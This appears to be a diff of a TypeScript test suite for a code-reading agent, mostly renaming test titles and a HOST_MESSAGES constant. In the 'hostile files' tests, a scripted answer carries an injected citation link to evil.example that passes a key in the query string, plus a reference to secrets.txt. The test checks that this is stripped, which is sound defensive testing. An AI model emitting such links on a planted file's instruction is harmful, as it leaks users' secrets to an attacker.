@@ -10,7 +10,7 @@ import { type ScriptedAnswer, scriptedLlm } from '../../llm/scripted.ts'
 import { settingsFrom } from '../../model/settings/settings.ts'
 import type { Steering, Step } from '../../model/walk/trace.ts'
 import { TOOL_SCHEMAS } from '../../navigate/agent/call.ts'
-import { AGENT_RULES, HOST } from '../../navigate/agent/prompt.ts'
+import { AGENT_RULES, HOST_MESSAGES } from '../../navigate/agent/prompt.ts'
 import { createMemoryStore } from '../../store/memory-store.ts'
 import type { AskOptions, AskRequest, Writing } from '../request.ts'
 
@@ -80,7 +80,7 @@ const messagesOf = ({ system, user, turns = [] }: LlmRequest) =>
   JSON.stringify([system, user, ...turns]).slice(0, -1)
 
 describe('an agent', () => {
-  it('looks ahead, calls tools, answers with lines that are found again, and is checked (NAV-3)', async () => {
+  it('looks ahead, calls tools, answers with verified citations, and is checked (NAV-3)', async () => {
     const { steps } = await asked([READS_OPEN, ANSWER])
     expect(steps.map(({ kind }) => kind)).toEqual([
       'start',
@@ -112,7 +112,7 @@ describe('an agent', () => {
     expect(steps.at(-1)).toMatchObject({ tier: 'walk', usage: { calls: 2 } })
   })
 
-  it('needs one call where what was looked up ahead answers', async () => {
+  it('needs one call if the first message contains the answer', async () => {
     const { steps, requests } = await asked([
       ANSWER.replace('src/session.py:11-12', 'docs/guide.md:5'),
     ])
@@ -159,7 +159,7 @@ describe('an agent', () => {
       calls(['delete_all', {}]),
       'Tools: search, grep, outline, read, refs',
     ],
-  ])('is told what is right after %s (NAV-4)', async (_, wrong, right) => {
+  ])('learns the right arguments after %s (NAV-4)', async (_, wrong, right) => {
     const { steps, requests } = await asked([wrong, READS_OPEN, ANSWER])
     const [, , first] = only(steps, 'call')
     expect(first).toMatchObject({ refused: true })
@@ -167,20 +167,20 @@ describe('an agent', () => {
     expect(answerIn(steps).found).toBe(true)
   })
 
-  it('is told that it made a call before, and not run again', async () => {
+  it('learns that it repeated a call, which is not run again', async () => {
     const again = calls(['search', { query: 'limit' }])
     const { steps, requests } = await asked([
       calls(['search', { query: 'limit' }]),
       again,
       ANSWER.replace('src/session.py:11-12', 'docs/guide.md:5'),
     ])
-    expect(requests[2].turns?.at(-1)?.text).toBe(HOST.repeated)
+    expect(requests[2].turns?.at(-1)?.text).toBe(HOST_MESSAGES.repeated)
     expect(only(steps, 'call').at(-1)).toMatchObject({ refused: true })
   })
 
-  it('is told once that an answer without a citation is none, then believed', async () => {
+  it('is asked once for citations, then accepted without them', async () => {
     const { steps, requests } = await asked(['It is so.', 'It is just so.'])
-    expect(requests[1].turns?.at(-1)?.text).toBe(HOST.citesNothing)
+    expect(requests[1].turns?.at(-1)?.text).toBe(HOST_MESSAGES.citesNothing)
     expect(answerIn(steps)).toMatchObject({ text: 'It is just so.', citations: [] })
   })
 
@@ -194,11 +194,11 @@ describe('an agent', () => {
       ANSWER.replace('src/session.py:11-12', 'docs/guide.md:5'),
     ])
     expect(only(steps, 'cap')).toMatchObject([{ cap: 'calls', limit: 12 }])
-    expect(requests[1].turns?.at(-1)?.text).toBe(HOST.noCallsLeft)
+    expect(requests[1].turns?.at(-1)?.text).toBe(HOST_MESSAGES.noCallsLeft)
     expect(answerIn(steps).found).toBe(true)
   })
 
-  it('falls back on the walk without a model where it goes on calling tools', async () => {
+  it('is replaced by the walk without a model if it does not stop calling tools', async () => {
     const { steps } = await asked((_, i) => calls(['search', { query: `limit ${i}` }]))
     expect(only(steps, 'fallback').at(0)).toMatchObject({
       why: {
@@ -209,10 +209,10 @@ describe('an agent', () => {
     expect(answerIn(steps).by).toBeUndefined()
   })
 
-  it('gives a model up that makes the same call again and again (LLM-6)', async () => {
+  it('is stopped if it makes the same call again and again (LLM-6)', async () => {
     const { steps, requests } = await asked(() => calls(['search', { query: 'limit' }]))
     expect(requests).toHaveLength(5)
-    expect(requests[3].turns?.at(-1)?.text).toBe(HOST.noCallsLeft)
+    expect(requests[3].turns?.at(-1)?.text).toBe(HOST_MESSAGES.noCallsLeft)
     expect(only(steps, 'fallback')).toHaveLength(1)
   })
 
@@ -220,7 +220,7 @@ describe('an agent', () => {
     ['tokens', { 'walk.maxModelTokens': 14_000 }, {}],
     ['cost', { 'walk.maxModelCostUsd': 0.02 }, { price: { input: 1, output: 1 } }],
     ['calls', { 'walk.maxModelCalls': 2 }, {}],
-  ] as const)('is told to answer before the limit on %s is passed', async (cap, changes, more) => {
+  ] as const)('must answer before the limit on %s is exceeded', async (cap, changes, more) => {
     const { steps } = await asked(
       [READS_OPEN, ANSWER],
       { settings: settingsFrom(changes) },
@@ -237,14 +237,14 @@ describe('an agent', () => {
       new LlmError('key', 'the model answered with nothing: ask again, or choose another model'),
     ],
     ['an empty answer', ''],
-  ])('shows what is found without a model after %s (NAV-9)', async (_, failure) => {
+  ])('is replaced by the walk without a model after %s (NAV-9)', async (_, failure) => {
     const { steps } = await asked([failure, failure])
     expect(only(steps, 'fallback').length).toBeGreaterThan(0)
     expect(answerIn(steps)).toMatchObject({ found: true })
     expect(answerIn(steps).by).toBeUndefined()
   })
 
-  it('says that it found nothing, where it looked, and what is found without it (ANS-1)', async () => {
+  it('says that it found nothing and where it looked, and shows what is found without it (ANS-1)', async () => {
     const { steps } = await asked([
       READS_OPEN,
       'NOT FOUND: neither sessions nor the store say so [src/session.py:11-12].',
@@ -261,7 +261,7 @@ describe('an agent', () => {
   it.each([
     ['an answer that is cut', ANSWER, 'cut'],
     ['nothing of what it says before its calls', 'Now I look at the store.', 'fallback'],
-  ] as const)('keeps %s when the stream breaks off (ANS-5)', async (_, text, kind) => {
+  ] as const)('keeps %s if the stream breaks off (ANS-5)', async (_, text, kind) => {
     const { steps } = await asked([], {}, { model: breaking(text) })
     expect(only(steps, 'call').map(({ tool }) => tool)).toContain('read')
     const [answer] = only(steps, 'answer')
@@ -272,7 +272,7 @@ describe('an agent', () => {
     expect(answer.by === 'model').toBe(kind === 'cut')
   })
 
-  it('keeps nothing of what it says before its calls when it is stopped (NAV-13)', async () => {
+  it('leaves out what it wrote before its calls if it is stopped (NAV-13)', async () => {
     const stop = new AbortController()
     const onWriting = ({ text }: Writing) => text !== '' && stop.abort()
     const { steps } = await asked(
@@ -284,7 +284,7 @@ describe('an agent', () => {
     expect(steps.at(-1)).toMatchObject({ kind: 'done', stopped: true })
   })
 
-  it('takes what the user says meanwhile as its next message (NAV-15)', async () => {
+  it('gets the user’s remarks as its next message (NAV-15)', async () => {
     const said: Steering[] = [{ kind: 'hint', text: 'not the tests' }]
     let looked = 0
     const { steps, requests } = await asked(
@@ -299,7 +299,7 @@ describe('an agent', () => {
     expect(only(steps, 'steer')).toHaveLength(1)
   })
 
-  it('answers anew where the user says something while the answer is written (NAV-15)', async () => {
+  it('answers again after a remark during its answer (NAV-15)', async () => {
     const said: Steering[] = []
     const { steps, requests } = await asked(
       (_, i) => {
@@ -319,20 +319,20 @@ describe('an agent', () => {
     ])
   })
 
-  it('answers from what was read once the user wants the answer (NAV-15)', async () => {
+  it('answers from what was read as soon as the user wants the answer (NAV-15)', async () => {
     const { steps: before } = await asked([READS_OPEN, ANSWER])
     const upTo = before.findIndex((step) => step.kind === 'answer')
     const { steps, requests } = await asked([READS_OPEN, ANSWER], {
       earlier: before.slice(0, upTo),
       steering: [{ kind: 'finish' }],
     })
-    expect(requests[0].turns?.at(-1)).toEqual({ role: 'user', text: HOST.finish })
-    // It calls a tool all the same, is told that no calls are left, and answers.
+    expect(requests[0].turns?.at(-1)).toEqual({ role: 'user', text: HOST_MESSAGES.finish })
+    // It calls a tool anyway, learns that no calls are left, and answers.
     expect(only(steps, 'call').filter(({ refused }) => refused)).toHaveLength(1)
     expect(answerIn(steps).citations).toHaveLength(1)
   })
 
-  it('goes on from a step of an earlier walk with the same conversation (NAV-15)', async () => {
+  it('continues from a step of an earlier walk with the same conversation (NAV-15)', async () => {
     const { steps: before } = await asked([READS_OPEN, ANSWER])
     const upTo = before.findIndex((step) => step.kind === 'answer')
     const { steps, requests } = await asked([ANSWER], { earlier: before.slice(0, upTo) })
@@ -341,7 +341,7 @@ describe('an agent', () => {
     expect(answerIn(steps).citations).toHaveLength(1)
   })
 
-  it('is given the earlier questions of the conversation as messages (ANS-6)', async () => {
+  it('gets the earlier questions of the conversation as messages (ANS-6)', async () => {
     const conversation = [{ question: 'What is Lamp?', answer: 'A server.' }]
     const { requests } = await asked([READS_OPEN, ANSWER], { conversation })
     expect(requests[0].user).toBe('Question: What is Lamp?')
@@ -364,7 +364,7 @@ describe('an agent', () => {
     expect(only(steps, 'fallback')).toEqual([])
   })
 
-  it('goes on with half of the context where the server says that a prompt is too long', async () => {
+  it('continues with half of the context if the server calls a prompt too long', async () => {
     const tooLong = new LlmError(
       'too-long',
       'the model answered with nothing: ask again, or choose another model',
@@ -374,18 +374,18 @@ describe('an agent', () => {
       tooLong,
       ANSWER.replace('src/session.py:11-12', 'docs/guide.md:5'),
     ])
-    expect(requests[2].turns?.at(-1)?.text).toBe(HOST.dropped)
+    expect(requests[2].turns?.at(-1)?.text).toBe(HOST_MESSAGES.dropped)
     expect(answerIn(steps).found).toBe(true)
   })
 
-  it('drops searches whose places were read where the context is small', async () => {
+  it('removes searches whose places were read if the context is small', async () => {
     const { requests } = await asked(
       [calls(['search', { query: 'too many sessions' }]), READS_OPEN, ANSWER],
       {},
       {},
       { contextTokens: 16_000 },
     )
-    expect(requests[2].turns?.filter(({ text }) => text === HOST.dropped)).toHaveLength(1)
+    expect(requests[2].turns?.filter(({ text }) => text === HOST_MESSAGES.dropped)).toHaveLength(1)
   })
 
   it('cuts a question of 20,000 characters', async () => {
@@ -398,7 +398,7 @@ describe('an agent', () => {
     expect(tokenBound(requests[0].user)).toBeLessThan(8000)
   })
 
-  it('stays inside of the folder that is asked (NAV-17)', async () => {
+  it('stays inside of the folder of the question (NAV-17)', async () => {
     const within = await library.resolve('lamp', 'docs/')
     const { steps, requests } = await asked(
       [
@@ -430,7 +430,7 @@ describe('an agent over a collection that changes meanwhile', () => {
     return { steps: await stepsOf(request, own, { model: llm }), requests: llm.requests }
   }
 
-  it('is told that a file is gone between search and read (NAV-4)', async () => {
+  it('learns that a file was deleted between search and read (NAV-4)', async () => {
     const { requests, steps } = await changing((change) => async (_, i) => {
       if (i > 0) return ANSWER.replace('src/session.py:11-12', 'docs/guide.md:5')
       await change()
@@ -491,7 +491,7 @@ describe('an agent that reads hostile files', () => {
     expect(text.split(`>>> end ${code}`)).toHaveLength(2)
   })
 
-  it('takes out of an answer what a file wanted it to cite and link (SEC-3)', async () => {
+  it('removes what a file wanted it to cite and link (SEC-3)', async () => {
     const { steps } = await walk([
       calls(['read', { places: ['README.md'] }]),
       'Port 8080 [README.md:5](http://evil.example/?q=key), see [secrets.txt:1-9].',
@@ -509,7 +509,7 @@ describe('an agent that reads hostile files', () => {
   })
 })
 
-describe('what an agent is told', () => {
+describe('the instructions of an agent', () => {
   it('keeps rules within 700 tokens and tools within 900', () => {
     expect(countTokens(AGENT_RULES)).toBeLessThanOrEqual(700)
     expect(countTokens(JSON.stringify(TOOL_SCHEMAS))).toBeLessThanOrEqual(900)
